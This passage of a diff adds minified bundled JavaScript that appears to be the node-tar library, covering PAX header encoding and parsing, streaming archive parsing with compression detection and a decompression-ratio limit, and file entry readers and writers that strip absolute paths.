+        let e = Buffer.byteLength(t), i = 512 * Math.ceil(1 + e / 512), r = Buffer.allocUnsafe(i);
+        for (let n = 0; n < 512; n++) r[n] = 0;
+        new F({ path: ("PaxHeader/" + _n(this.path ?? "")).slice(0, 99), mode: this.mode || 420, uid: this.uid, gid: this.gid, size: e, mtime: this.mtime, type: this.global ? "GlobalExtendedHeader" : "ExtendedHeader", linkpath: "", uname: this.uname || "", gname: this.gname || "", devmaj: 0, devmin: 0, atime: this.atime, ctime: this.ctime }).encode(r), r.write(t, 512, e, "utf8");
+        for (let n = e + 512; n < r.length; n++) r[n] = 0;
+        return r;
+      }
+      encodeBody() {
+        return this.encodeField("path") + this.encodeField("ctime") + this.encodeField("atime") + this.encodeField("dev") + this.encodeField("ino") + this.encodeField("nlink") + this.encodeField("charset") + this.encodeField("comment") + this.encodeField("gid") + this.encodeField("gname") + this.encodeField("linkpath") + this.encodeField("mtime") + this.encodeField("size") + this.encodeField("uid") + this.encodeField("uname");
+      }
+      encodeField(t) {
+        if (this[t] === void 0) return "";
+        let e = this[t], i = e instanceof Date ? e.getTime() / 1e3 : e, r = " " + (t === "dev" || t === "ino" || t === "nlink" ? "SCHILY." : "") + t + "=" + i + `
+`, n = Buffer.byteLength(r), o = Math.floor(Math.log(n) / Math.log(10)) + 1;
+        return n + o >= Math.pow(10, o) && (o += 1), o + n + r;
+      }
+      static parse(t, e, i = false) {
+        return new s(On(Tn(t), e), i);
+      }
+    };
+    On = (s3, t) => t ? Object.assign({}, t, s3) : s3;
+    Tn = (s3) => s3.replace(/\n$/, "").split(`
+`).reduce(xn, /* @__PURE__ */ Object.create(null));
+    xn = (s3, t) => {
+      let e = parseInt(t, 10);
+      if (e !== Buffer.byteLength(t) + 1) return s3;
+      t = t.slice((e + " ").length);
+      let i = t.split("="), r = i.shift();
+      if (!r) return s3;
+      let n = r.replace(/^SCHILY\.(dev|ino|nlink)/, "$1"), o = i.join("=").replace(/\0.*/, "");
+      switch (n) {
+        case "path":
+        case "linkpath":
+        case "type":
+        case "charset":
+        case "comment":
+        case "gname":
+        case "uname":
+          s3[n] = o;
+          break;
+        case "ctime":
+        case "atime":
+        case "mtime":
+          s3[n] = new Date(Number(o) * 1e3);
+          break;
+        case "size":
+          let h = +o;
+          h >= 0 && (s3[n] = h);
+          break;
+        case "gid":
+        case "uid":
+        case "dev":
+        case "ino":
+        case "nlink":
+        case "mode":
+          s3[n] = +o;
+          break;
+      }
+      return s3;
+    };
+    Ln = process.env.TESTING_TAR_FAKE_PLATFORM || process.platform;
+    f = Ln !== "win32" ? (s3) => String(s3) : (s3) => String(s3).replaceAll(/\\/g, "/");
+    $e = class extends A {
+      extended;
+      globalExtended;
+      header;
+      startBlockSize;
+      blockRemain;
+      remain;
+      type;
+      meta = false;
+      ignore = false;
+      path;
+      mode;
+      uid;
+      gid;
+      uname;
+      gname;
+      size = 0;
+      mtime;
+      atime;
+      ctime;
+      linkpath;
+      dev;
+      ino;
+      nlink;
+      invalid = false;
+      absolute;
+      unsupported = false;
+      constructor(t, e, i) {
+        switch (super({}), this.pause(), this.extended = e, this.globalExtended = i, this.header = t, this.remain = t.size ?? 0, this.startBlockSize = 512 * Math.ceil(this.remain / 512), this.blockRemain = this.startBlockSize, this.type = t.type, this.type) {
+          case "File":
+          case "OldFile":
+          case "Link":
+          case "SymbolicLink":
+          case "CharacterDevice":
+          case "BlockDevice":
+          case "Directory":
+          case "FIFO":
+          case "ContiguousFile":
+          case "GNUDumpDir":
+            break;
+          case "NextFileHasLongLinkpath":
+          case "NextFileHasLongPath":
+          case "OldGnuLongPath":
+          case "GlobalExtendedHeader":
+          case "ExtendedHeader":
+          case "OldExtendedHeader":
+            this.meta = true;
+            break;
+          default:
+            this.ignore = true;
+        }
+        if (!t.path) throw new Error("no path provided for tar.ReadEntry");
+        this.path = f(t.path), this.mode = t.mode, this.mode && (this.mode = this.mode & 4095), this.uid = t.uid, this.gid = t.gid, this.uname = t.uname, this.gname = t.gname, this.size = this.remain, this.mtime = t.mtime, this.atime = t.atime, this.ctime = t.ctime, this.linkpath = t.linkpath ? f(t.linkpath) : void 0, this.uname = t.uname, this.gname = t.gname, e && this.#t(e), i && this.#t(i, true);
+      }
+      write(t) {
+        let e = t.length;
+        if (e > this.blockRemain) throw new Error("writing more to entry than is appropriate");
+        let i = this.remain, r = this.blockRemain;
+        return this.remain = Math.max(0, i - e), this.blockRemain = Math.max(0, r - e), this.ignore ? true : i >= e ? super.write(t) : super.write(t.subarray(0, i));
+      }
+      #t(t, e = false) {
+        t.path && (t.path = f(t.path)), t.linkpath && (t.linkpath = f(t.linkpath)), Object.assign(this, Object.fromEntries(Object.entries(t).filter(([i, r]) => !(r == null || i === "path" && e))));
+      }
+    };
+    Dt = (s3, t, e, i = {}) => {
+      s3.file && (i.file = s3.file), s3.cwd && (i.cwd = s3.cwd), i.code = e instanceof Error && e.code || t, i.tarCode = t, !s3.strict && i.recoverable !== false ? (e instanceof Error && (i = Object.assign(e, i), e = e.message), s3.emit("warn", t, e, i)) : e instanceof Error ? s3.emit("error", Object.assign(e, i)) : s3.emit("error", Object.assign(new Error(`${t}: ${e}`), i));
+    };
+    Nn = 1024 * 1024;
+    Xi = Buffer.from([31, 139]);
+    qi = Buffer.from([40, 181, 47, 253]);
+    An = Math.max(Xi.length, qi.length);
+    B = Symbol("state");
+    Nt = Symbol("writeEntry");
+    it = Symbol("readEntry");
+    Zi = Symbol("nextEntry");
+    Zs = Symbol("processEntry");
+    V = Symbol("extendedHeader");
+    he = Symbol("globalExtendedHeader");
+    dt = Symbol("meta");
+    Ys = Symbol("emitMeta");
+    p = Symbol("buffer");
+    st = Symbol("queue");
+    ut = Symbol("ended");
+    Yi = Symbol("emittedEnd");
+    At = Symbol("emit");
+    w = Symbol("unzip");
+    Xe = Symbol("consumeChunk");
+    qe = Symbol("consumeChunkSub");
+    Ki = Symbol("consumeBody");
+    Ks = Symbol("consumeMeta");
+    Vs = Symbol("consumeHeader");
+    ae = Symbol("consuming");
+    Vi = Symbol("bufferConcat");
+    Qe = Symbol("maybeEnd");
+    Yt = Symbol("writing");
+    $ = Symbol("aborted");
+    Je = Symbol("onDone");
+    It = Symbol("sawValidEntry");
+    je = Symbol("sawNullBlock");
+    ti = Symbol("sawEOF");
+    $s = Symbol("closeStream");
+    In = 1e3;
+    le = Symbol("compressedBytesRead");
+    $i = Symbol("decompressedBytesRead");
+    Xs = Symbol("checkDecompressionRatio");
+    Cn = () => true;
+    rt = class extends Dn {
+      file;
+      strict;
+      maxMetaEntrySize;
+      filter;
+      brotli;
+      zstd;
+      maxDecompressionRatio;
+      writable = true;
+      readable = false;
+      [st] = [];
+      [p];
+      [it];
+      [Nt];
+      [B] = "begin";
+      [dt] = "";
+      [V];
+      [he];
+      [ut] = false;
+      [w];
+      [$] = false;
+      [It];
+      [je] = false;
+      [ti] = false;
+      [Yt] = false;
+      [ae] = false;
+      [Yi] = false;
+      [le] = 0;
+      [$i] = 0;
+      constructor(t = {}) {
+        super(), this.file = t.file || "", this.on(Je, () => {
+          (this[B] === "begin" || this[It] === false) && this.warn("TAR_BAD_ARCHIVE", "Unrecognized archive format");
+        }), t.ondone ? this.on(Je, t.ondone) : this.on(Je, () => {
+          this.emit("prefinish"), this.emit("finish"), this.emit("end");
+        }), this.strict = !!t.strict, this.maxDecompressionRatio = typeof t.maxDecompressionRatio == "number" ? t.maxDecompressionRatio : In, this.maxMetaEntrySize = t.maxMetaEntrySize || Nn, this.filter = typeof t.filter == "function" ? t.filter : Cn;
+        let e = t.file && (t.file.endsWith(".tar.br") || t.file.endsWith(".tbr"));
+        this.brotli = !(t.gzip || t.zstd) && t.brotli !== void 0 ? t.brotli : e ? void 0 : false;
+        let i = t.file && (t.file.endsWith(".tar.zst") || t.file.endsWith(".tzst"));
+        this.zstd = !(t.gzip || t.brotli) && t.zstd !== void 0 ? t.zstd : i ? true : void 0, this.on("end", () => this[$s]()), typeof t.onwarn == "function" && this.on("warn", t.onwarn), typeof t.onReadEntry == "function" && this.on("entry", t.onReadEntry);
+      }
+      warn(t, e, i = {}) {
+        Dt(this, t, e, i);
+      }
+      [Vs](t, e) {
+        this[It] === void 0 && (this[It] = false);
+        let i;
+        try {
+          i = new F(t, e, this[V], this[he]);
+        } catch (r) {
+          return this.warn("TAR_ENTRY_INVALID", r);
+        }
+        if (i.nullBlock) this[je] ? (this[ti] = true, this[B] === "begin" && (this[B] = "header"), this[At]("eof")) : (this[je] = true, this[At]("nullBlock"));
+        else if (this[je] = false, !i.cksumValid) this.warn("TAR_ENTRY_INVALID", "checksum failure", { header: i });
+        else if (!i.path) this.warn("TAR_ENTRY_INVALID", "path is required", { header: i });
+        else {
+          let r = i.type;
+          if (/^(Symbolic)?Link$/.test(r) && !i.linkpath) this.warn("TAR_ENTRY_INVALID", "linkpath required", { header: i });
+          else if (!/^(Symbolic)?Link$/.test(r) && !/^(Global)?ExtendedHeader$/.test(r) && i.linkpath) this.warn("TAR_ENTRY_INVALID", "linkpath forbidden", { header: i });
+          else {
+            let n = this[Nt] = new $e(i, this[V], this[he]);
+            if (!this[It]) if (n.remain) {
+              let o = () => {
+                n.invalid || (this[It] = true);
+              };
+              n.on("end", o);
+            } else this[It] = true;
+            n.meta ? n.size > this.maxMetaEntrySize ? (n.ignore = true, this[At]("ignoredEntry", n), this[B] = "ignore", n.resume()) : n.size > 0 && (this[dt] = "", n.on("data", (o) => this[dt] += o), this[B] = "meta") : (this[V] = void 0, n.ignore = n.ignore || !this.filter(n.path, n), n.ignore ? (this[At]("ignoredEntry", n), this[B] = n.remain ? "ignore" : "header", n.resume()) : (n.remain ? this[B] = "body" : (this[B] = "header", n.end()), this[it] ? this[st].push(n) : (this[st].push(n), this[Zi]())));
+          }
+        }
+      }
+      [$s]() {
+        queueMicrotask(() => this.emit("close"));
+      }
+      [Zs](t) {
+        let e = true;
+        if (!t) this[it] = void 0, e = false;
+        else if (Array.isArray(t)) {
+          let [i, ...r] = t;
+          this.emit(i, ...r);
+        } else this[it] = t, this.emit("entry", t), t.emittedEnd || (t.on("end", () => this[Zi]()), e = false);
+        return e;
+      }
+      [Zi]() {
+        do
+          ;
+        while (this[Zs](this[st].shift()));
+        if (this[st].length === 0) {
+          let t = this[it];
+          !t || t.flowing || t.size === t.remain ? this[Yt] || this.emit("drain") : t.once("drain", () => this.emit("drain"));
+        }
+      }
+      [Ki](t, e) {
+        let i = this[Nt];
+        if (!i) throw new Error("attempt to consume body without entry??");
+        let r = i.blockRemain ?? 0, n = r >= t.length && e === 0 ? t : t.subarray(e, e + r);
+        return i.write(n), i.blockRemain || (this[B] = "header", this[Nt] = void 0, i.end()), n.length;
+      }
+      [Ks](t, e) {
+        let i = this[Nt], r = this[Ki](t, e);
+        return !this[Nt] && i && this[Ys](i), r;
+      }
+      [At](t, e, i) {
+        this[st].length === 0 && !this[it] ? this.emit(t, e, i) : this[st].push([t, e, i]);
+      }
+      [Ys](t) {
+        switch (this[At]("meta", this[dt]), t.type) {
+          case "ExtendedHeader":
+          case "OldExtendedHeader":
+            this[V] = ft.parse(this[dt], this[V], false);
+            break;
+          case "GlobalExtendedHeader":
+            this[he] = ft.parse(this[dt], this[he], true);
+            break;
+          case "NextFileHasLongPath":
+          case "OldGnuLongPath": {
+            let e = this[V] ?? /* @__PURE__ */ Object.create(null);
+            this[V] = e, e.path = this[dt].replace(/\0.*/, "");
+            break;
+          }
+          case "NextFileHasLongLinkpath": {
+            let e = this[V] || /* @__PURE__ */ Object.create(null);
+            this[V] = e, e.linkpath = this[dt].replace(/\0.*/, "");
+            break;
+          }
+          default:
+            throw new Error("unknown meta: " + t.type);
+        }
+      }
+      abort(t) {
+        if (!this[$]) {
+          if (this[w]) {
+            let e = this[w];
+            e.write = () => true, e.end = () => e, e.emit = () => false, e.destroy?.();
+          }
+          this[$] = true, this.emit("abort", t), this.warn("TAR_ABORT", t, { recoverable: false });
+        }
+      }
+      [Xs](t) {
+        this[$i] += t.length;
+        let e = this[$i] / this[le];
+        return e > this.maxDecompressionRatio ? (this.abort(new Error(`max decompression ratio exceeded: ${e.toFixed(2)} > ${this.maxDecompressionRatio}`)), false) : true;
+      }
+      write(t, e, i) {
+        if (typeof e == "function" && (i = e, e = void 0), typeof t == "string" && (t = Buffer.from(t, typeof e == "string" ? e : "utf8")), this[$]) return i?.(), false;
+        if ((this[w] === void 0 || this.brotli === void 0 && this[w] === false) && t) {
+          if (this[p] && (t = Buffer.concat([this[p], t]), this[p] = void 0), t.length < An) return this[p] = t, i?.(), true;
+          for (let a = 0; this[w] === void 0 && a < Xi.length; a++) t[a] !== Xi[a] && (this[w] = false);
+          let o = false;
+          if (this[w] === false && this.zstd !== false) {
+            o = true;
+            for (let a = 0; a < qi.length; a++) if (t[a] !== qi[a]) {
+              o = false;
+              break;
+            }
+          }
+          let h = this.brotli === void 0 && !o;
+          if (this[w] === false && h) if (t.length < 512) if (this[ut]) this.brotli = true;
+          else return this[p] = t, i?.(), true;
+          else try {
+            new F(t.subarray(0, 512)), this.brotli = false;
+          } catch {
+            this.brotli = true;
+          }
+          if (this[w] === void 0 || this[w] === false && (this.brotli || o)) {
+            let a = this[ut];
+            this[ut] = false, this[w] = this[w] === void 0 ? new Ue({}) : o ? new Ke({}) : new Ge({}), this[w].on("data", (c) => {
+              this[Xs](c) && this[Xe](c);
+            }), this[w].on("error", (c) => {
+              this[$] || this.abort(c);
+            }), this[w].on("end", () => {
+              this[ut] = true, this[Xe]();
+            }), this[Yt] = true, this[le] += t.length;
+            let l = !!this[w][a ? "end" : "write"](t);
+            return this[Yt] = false, i?.(), l;
+          }
+        }
+        this[Yt] = true, this[w] ? (this[le] += t.length, this[w].write(t)) : this[Xe](t), this[Yt] = false;
+        let n = this[st].length > 0 ? false : this[it] ? this[it].flowing : true;
+        return !n && this[st].length === 0 && this[it]?.once("drain", () => this.emit("drain")), i?.(), n;
+      }
+      [Vi](t) {
+        t && !this[$] && (this[p] = this[p] ? Buffer.concat([this[p], t]) : t);
+      }
+      [Qe]() {
+        if (this[ut] && !this[Yi] && !this[$] && !this[ae]) {
+          this[Yi] = true;
+          let t = this[Nt];
+          if (t?.blockRemain) {
+            let e = this[p] ? this[p].length : 0;
+            this.warn("TAR_BAD_ARCHIVE", `Truncated input (needed ${t.blockRemain} more bytes, only ${e} available)`, { entry: t }), this[p] && t.write(this[p]), t.end();
+          }
+          this[At](Je);
+        }
+      }
+      [Xe](t) {
+        if (this[ae] && t) this[Vi](t);
+        else if (!t && !this[p]) this[Qe]();
+        else if (t) {
+          if (this[ae] = true, this[p]) {
+            this[Vi](t);
+            let e = this[p];
+            this[p] = void 0, this[qe](e);
+          } else this[qe](t);
+          for (; this[p] && this[p]?.length >= 512 && !this[$] && !this[ti]; ) {
+            let e = this[p];
+            this[p] = void 0, this[qe](e);
+          }
+          this[ae] = false;
+        }
+        (!this[p] || this[ut]) && this[Qe]();
+      }
+      [qe](t) {
+        let e = 0, i = t.length;
+        for (; e + 512 <= i && !this[$] && !this[ti]; ) switch (this[B]) {
+          case "begin":
+          case "header":
+            this[Vs](t, e), e += 512;
+            break;
+          case "ignore":
+          case "body":
+            e += this[Ki](t, e);
+            break;
+          case "meta":
+            e += this[Ks](t, e);
+            break;
+          default:
+            throw new Error("invalid state: " + this[B]);
+        }
+        e < i && (this[p] = this[p] ? Buffer.concat([t.subarray(e), this[p]]) : t.subarray(e));
+      }
+      end(t, e, i) {
+        return typeof t == "function" && (i = t, e = void 0, t = void 0), typeof e == "function" && (i = e, e = void 0), typeof t == "string" && (t = Buffer.from(t, e)), i && this.once("finish", i), this[$] || (this[w] ? (t && (this[le] += t.length, this[w].write(t)), this[w].end()) : (this[ut] = true, (this.brotli === void 0 || this.zstd === void 0) && (t = t || Buffer.alloc(0)), t && this.write(t), this[Qe]())), this;
+      }
+    };
+    mt = (s3) => {
+      let t = s3.length - 1, e = -1;
+      for (; t > -1 && s3.charAt(t) === "/"; ) e = t, t--;
+      return e === -1 ? s3 : s3.slice(0, e);
+    };
+    vn = (s3) => {
+      let t = s3.onReadEntry;
+      s3.onReadEntry = t ? (e) => {
+        t(e), e.resume();
+      } : (e) => e.resume();
+    };
+    Qi = (s3, t) => {
+      let e = new Map(t.map((o) => [mt(o), true])), i = s3.filter, r = 100, n = (o, h = "", a = 0) => {
+        if (a >= r) return e.set(o, false), false;
+        let l = h || kn(o).root || ".", c;
+        if (o === l) c = false;
+        else {
+          let d = e.get(o);
+          c = d !== void 0 ? d : n(Fn(o), l, a + 1);
+        }
+        return e.set(o, c), c;
+      };
+      s3.filter = i ? (o, h) => i(o, h) && n(mt(o)) : (o) => n(mt(o));
+    };
+    Mn = (s3) => {
+      let t = new rt(s3), e = s3.file, i;
+      try {
+        i = Kt.openSync(e, "r");
+        let r = Kt.fstatSync(i), n = s3.maxReadSize || 16 * 1024 * 1024;
+        if (r.size < n) {
+          let o = Buffer.allocUnsafe(r.size), h = Kt.readSync(i, o, 0, r.size, 0);
+          t.end(h === o.byteLength ? o : o.subarray(0, h));
+        } else {
+          let o = 0, h = Buffer.allocUnsafe(n);
+          for (; o < r.size; ) {
+            let a = Kt.readSync(i, h, 0, n, o);
+            if (a === 0) break;
+            o += a, t.write(h.subarray(0, a));
+          }
+          t.end();
+        }
+      } finally {
+        if (typeof i == "number") try {
+          Kt.closeSync(i);
+        } catch {
+        }
+      }
+    };
+    Bn = (s3, t) => {
+      let e = new rt(s3), i = s3.maxReadSize || 16 * 1024 * 1024, r = s3.file;
+      return new Promise((o, h) => {
+        e.on("error", h), e.on("end", o), Kt.stat(r, (a, l) => {
+          if (a) h(a);
+          else {
+            let c = new _t(r, { readSize: i, size: l.size });
+            c.on("error", h), c.pipe(e);
+          }
+        });
+      });
+    };
+    Ct = K(Mn, Bn, (s3) => new rt(s3), (s3) => new rt(s3), (s3, t) => {
+      t?.length && Qi(s3, t), s3.noResume || vn(s3);
+    });
+    Ji = (s3, t, e) => (s3 &= 4095, e && (s3 = (s3 | 384) & -19), t && (s3 & 256 && (s3 |= 64), s3 & 32 && (s3 |= 8), s3 & 4 && (s3 |= 1)), s3);
+    ({ isAbsolute: zn, parse: qs } = Pn);
+    ce = (s3) => {
+      let t = "", e = qs(s3);
+      for (; zn(s3) || e.root; ) {
+        let i = s3.charAt(0) === "/" && s3.slice(0, 4) !== "//?/" ? "/" : e.root;
+        s3 = s3.slice(i.length), t += i, e = qs(s3);
+      }
+      return [t, s3];
+    };
+    ei = ["|", "<", ">", "?", ":"];
+    ji = ei.map((s3) => String.fromCodePoint(61440 + Number(s3.codePointAt(0))));
+    Un = new Map(ei.map((s3, t) => [s3, ji[t]]));
+    Hn = new Map(ji.map((s3, t) => [s3, ei[t]]));
+    ts = (s3) => ei.reduce((t, e) => t.split(e).join(Un.get(e)), s3);
+    Qs = (s3) => ji.reduce((t, e) => t.split(e).join(Hn.get(e)), s3);
+    rr = (s3, t) => t ? (s3 = f(s3).replace(/^\.(\/|$)/, ""), mt(t) + "/" + s3) : f(s3);
+    Wn = 16 * 1024 * 1024;
+    tr = Symbol("process");
+    er = Symbol("file");
+    ir = Symbol("directory");
+    is = Symbol("symlink");
+    sr = Symbol("hardlink");
+    fe = Symbol("header");
+    ii = Symbol("read");
+    ss = Symbol("lstat");
+    si = Symbol("onlstat");
+    rs = Symbol("onread");
+    ns = Symbol("onreadlink");
+    os4 = Symbol("openfile");
+    hs = Symbol("onopenfile");
+    pt = Symbol("close");
+    ri = Symbol("mode");
+    as = Symbol("awaitDrain");
+    es = Symbol("ondrain");
+    q = Symbol("prefix");
+    de = class extends A {
+      path;
+      portable;
+      myuid = process.getuid && process.getuid() || 0;
+      myuser = process.env.USER || "";
+      maxReadSize;
+      linkCache;
+      statCache;
+      preservePaths;
+      cwd;
+      strict;
+      mtime;
+      noPax;
+      noMtime;
+      prefix;
+      fd;
+      blockLen = 0;
+      blockRemain = 0;
+      buf;
+      pos = 0;
+      remain = 0;
+      length = 0;
+      offset = 0;
+      win32;
+      absolute;
+      header;
+      type;
+      linkpath;
+      stat;
+      onWriteEntry;
+      #t = false;
+      constructor(t, e = {}) {
+        let i = se(e);
+        super(), this.path = f(t), this.portable = !!i.portable, this.maxReadSize = i.maxReadSize || Wn, this.linkCache = i.linkCache || /* @__PURE__ */ new Map(), this.statCache = i.statCache || /* @__PURE__ */ new Map(), this.preservePaths = !!i.preservePaths, this.cwd = f(i.cwd || process.cwd()), this.strict = !!i.strict, this.noPax = !!i.noPax, this.noMtime = !!i.noMtime, this.mtime = i.mtime, this.prefix = i.prefix ? f(i.prefix) : void 0, this.onWriteEntry = i.onWriteEntry, typeof i.onwarn == "function" && this.on("warn", i.onwarn);
+        let r = false;
+        if (!this.preservePaths) {
+          let [o, h] = ce(this.path);
+          o && typeof h == "string" && (this.path = h, r = o);
+        }
+        this.win32 = !!i.win32 || process.platform === "win32", this.win32 && (this.path = Qs(this.path.replaceAll(/\\/g, "/")), t = t.replaceAll(/\\/g, "/")), this.absolute = f(i.absolute || js.resolve(this.cwd, t)), this.path === "" && (this.path = "./"), r && this.warn("TAR_ENTRY_INFO", `stripping ${r} from absolute path`, { entry: this, path: r + this.path });
+        let n = this.statCache.get(this.absolute);
+        n ? this[si](n) : this[ss]();
+      }
+      warn(t, e, i = {}) {
+        return Dt(this, t, e, i);
+      }
+      emit(t, ...e) {
+        return t === "error" && (this.#t = true), super.emit(t, ...e);
+      }
+      [ss]() {
+        X.lstat(this.absolute, (t, e) => {
+          if (t) return this.emit("error", t);
+          this[si](e);
+        });
+      }
+      [si](t) {
+        this.statCache.set(this.absolute, t), this.stat = t, t.isFile() || (t.size = 0), this.type = Gn(t), this.emit("stat", t), this[tr]();
+      }
+      [tr]() {
+        switch (this.type) {
+          case "File":
+            return this[er]();
+          case "Directory":
+            return this[ir]();
+          case "SymbolicLink":
+            return this[is]();
+          default:
+            return this.end();
+        }
+      }
+      [ri](t) {
+        return Ji(t, this.type === "Directory", this.portable);
+      }
+      [q](t) {
+        return rr(t, this.prefix);
+      }
+      [fe]() {
+        if (!this.stat) throw new Error("cannot write header before stat");
+        this.type === "Directory" && this.portable && (this.noMtime = true), this.onWriteEntry?.(this), this.header = new F({ path: this[q](this.path), linkpath: this.type === "Link" && this.linkpath !== void 0 ? this[q](this.linkpath) : this.linkpath, mode: this[ri](this.stat.mode), uid: this.portable ? void 0 : this.stat.uid, gid: this.portable ? void 0 : this.stat.gid, size: this.stat.size, mtime: this.noMtime ? void 0 : this.mtime || this.stat.mtime, type: this.type === "Unsupported" ? void 0 : this.type, uname: this.portable ? void 0 : this.stat.uid === this.myuid ? this.myuser : "", atime: this.portable ? void 0 : this.stat.atime, ctime: this.portable ? void 0 : this.stat.ctime }), this.header.encode() && !this.noPax && super.write(new ft({ atime: this.portable ? void 0 : this.header.atime, ctime: this.portable ? void 0 : this.header.ctime, gid: this.portable ? void 0 : this.header.gid, mtime: this.noMtime ? void 0 : this.mtime || this.header.mtime, path: this[q](this.path), linkpath: this.type === "Link" && this.linkpath !== void 0 ? this[q](this.linkpath) : this.linkpath, size: this.header.size, uid: this.portable ? void 0 : this.header.uid, uname: this.portable ? void 0 : this.header.uname, dev: this.portable ? void 0 : this.stat.dev, ino: this.portable ? void 0 : this.stat.ino, nlink: this.portable ? void 0 : this.stat.nlink }).encode());
+        let t = this.header?.block;
+        if (!t) throw new Error("failed to encode header");
+        super.write(t);
+      }
+      [ir]() {
+        if (!this.stat) throw new Error("cannot create directory entry without stat");
+        this.path.slice(-1) !== "/" && (this.path += "/"), this.stat.size = 0, this[fe](), this.end();
+      }
+      [is]() {
+        X.readlink(this.absolute, (t, e) => {
+          if (t) return this.emit("error", t);
+          this[ns](e);
+        });
+      }
+      [ns](t) {
+        this.linkpath = f(t), this[fe](), this.end();
+      }
+      [sr](t) {
+        if (!this.stat) throw new Error("cannot create link entry without stat");
+        this.type = "Link", this.linkpath = f(js.relative(this.cwd, t)), this.stat.size = 0, this[fe](), this.end();
+      }
+      [er]() {
+        if (!this.stat) throw new Error("cannot create file entry without stat");
+        if (this.stat.nlink > 1) {
+          let t = `${this.stat.dev}:${this.stat.ino}`, e = this.linkCache.get(t);
+          if (e?.indexOf(this.cwd) === 0) return this[sr](e);
+          this.linkCache.set(t, this.absolute);
+        }
+        if (this[fe](), this.stat.size === 0) return this.end();
+        this[os4]();
+      }
+      [os4]() {
+        X.open(this.absolute, "r", (t, e) => {
+          if (t) return this.emit("error", t);
+          this[hs](e);
+        });
+      }
+      [hs](t) {
+        if (this.fd = t, this.#t) return this[pt]();
+        if (!this.stat) throw new Error("should stat before calling onopenfile");
+        this.blockLen = 512 * Math.ceil(this.stat.size / 512), this.blockRemain = this.blockLen;
+        let e = Math.min(this.blockLen, this.maxReadSize);
+        this.buf = Buffer.allocUnsafe(e), this.offset = 0, this.pos = 0, this.remain = this.stat.size, this.length = this.buf.length, this[ii]();
+      }
+      [ii]() {
+        let { fd: t, buf: e, offset: i, length: r, pos: n } = this;
+        if (t === void 0 || e === void 0) throw new Error("cannot read file without first opening");
+        X.read(t, e, i, r, n, (o, h) => {
+          if (o) return this[pt](() => this.emit("error", o));
+          this[rs](h);
+        });
+      }
+      [pt](t = () => {
+      }) {
+        this.fd !== void 0 && X.close(this.fd, t);
+      }
+      [rs](t) {
+        if (t <= 0 && this.remain > 0) {
+          let r = Object.assign(new Error("encountered unexpected EOF"), { path: this.absolute, syscall: "read", code: "EOF" });
+          return this[pt](() => this.emit("error", r));
+        }
+        if (t > this.remain) {
+          let r = Object.assign(new Error("did not encounter expected EOF"), { path: this.absolute, syscall: "read", code: "EOF" });
+          return this[pt](() => this.emit("error", r));
+        }
+        if (!this.buf) throw new Error("should have created buffer prior to reading");
+        if (t === this.remain) for (let r = t; r < this.length && t < this.blockRemain; r++) this.buf[r + this.offset] = 0, t++, this.remain++;
+        let e = this.offset === 0 && t === this.buf.length ? this.buf : this.buf.subarray(this.offset, this.offset + t);
+        this.write(e) ? this[es]() : this[as](() => this[es]());
+      }
+      [as](t) {
+        this.once("drain", t);
+      }
+      write(t, e, i) {
+        if (typeof e == "function" && (i = e, e = void 0), typeof t == "string" && (t = Buffer.from(t, typeof e == "string" ? e : "utf8")), this.blockRemain < t.length) {
+          let r = Object.assign(new Error("writing more data than expected"), { path: this.absolute });
+          return this.emit("error", r);
+        }
+        return this.remain -= t.length, this.blockRemain -= t.length, this.pos += t.length, this.offset += t.length, super.write(t, null, i);
+      }
+      [es]() {
+        if (!this.remain) return this.blockRemain && super.write(Buffer.alloc(this.blockRemain)), this[pt]((t) => t ? this.emit("error", t) : this.end());
+        if (!this.buf) throw new Error("buffer lost somehow in ONDRAIN");
+        this.offset >= this.length && (this.buf = Buffer.allocUnsafe(Math.min(this.blockRemain, this.buf.length)), this.offset = 0), this.length = this.buf.length - this.offset, this[ii]();
+      }
+    };
+    ni = class extends de {
+      sync = true;
+      [ss]() {
+        this[si](X.lstatSync(this.absolute));
+      }
+      [is]() {
+        this[ns](X.readlinkSync(this.absolute));
+      }
+      [os4]() {
+        this[hs](X.openSync(this.absolute, "r"));
+      }
+      [ii]() {
+        let t = true;
+        try {
+          let { fd: e, buf: i, offset: r, length: n, pos: o } = this;
+          if (e === void 0 || i === void 0) throw new Error("fd and buf must be set in READ method");
+          let h = X.readSync(e, i, r, n, o);
+          this[rs](h), t = false;
+        } finally {
+          if (t) try {
+            this[pt](() => {
+            });
+          } catch {
+          }
+        }
+      }
+      [as](t) {
+        t();
+      }
+      [pt](t = () => {
+      }) {
+        this.fd !== void 0 && X.closeSync(this.fd), t();
+      }
+    };
+    oi = class extends A {
+      blockLen = 0;
+      blockRemain = 0;
+      buf = 0;
+      pos = 0;
+      remain = 0;
+      length = 0;
+      preservePaths;
+      portable;
+      strict;
+      noPax;
+      noMtime;
+      readEntry;
+      type;
+      prefix;
+      path;
+      mode;
+      uid;
+      gid;
+      uname;
+      gname;
+      header;
+      mtime;
+      atime;
+      ctime;
+      linkpath;
+      size;
+      onWriteEntry;
+      warn(t, e, i = {}) {
+        return Dt(this, t, e, i);
+      }
+      constructor(t, e = {}) {
+        let i = se(e);
+        super(), this.preservePaths = !!i.preservePaths, this.portable = !!i.portable, this.strict = !!i.strict, this.noPax = !!i.noPax, this.noMtime = !!i.noMtime, this.onWriteEntry = i.onWriteEntry, this.readEntry = t;
+        let { type: r } = t;
+        if (r === "Unsupported") throw new Error("writing entry that should be ignored");
+        this.type = r, this.type === "Directory" && this.portable && (this.noMtime = true), this.prefix = i.prefix, this.path = f(t.path), this.mode = t.mode !== void 0 ? this[ri](t.mode) : void 0, this.uid = this.portable ? void 0 : t.uid, this.gid = this.portable ? void 0 : t.gid, this.uname = this.portable ? void 0 : t.uname, this.gname = this.portable ? void 0 : t.gname, this.size = t.size, this.mtime = this.noMtime ? void 0 : i.mtime || t.mtime, this.atime = this.portable ? void 0 : t.atime, this.ctime = this.portable ? void 0 : t.ctime, this.linkpath = t.linkpath !== void 0 ? f(t.linkpath) : void 0, typeof i.onwarn == "function" && this.on("warn", i.onwarn);
+        let n = false;
+        if (!this.preservePaths) {
+          let [h, a] = ce(this.path);
+          h && typeof a == "string" && (this.path = a, n = h);
+        }
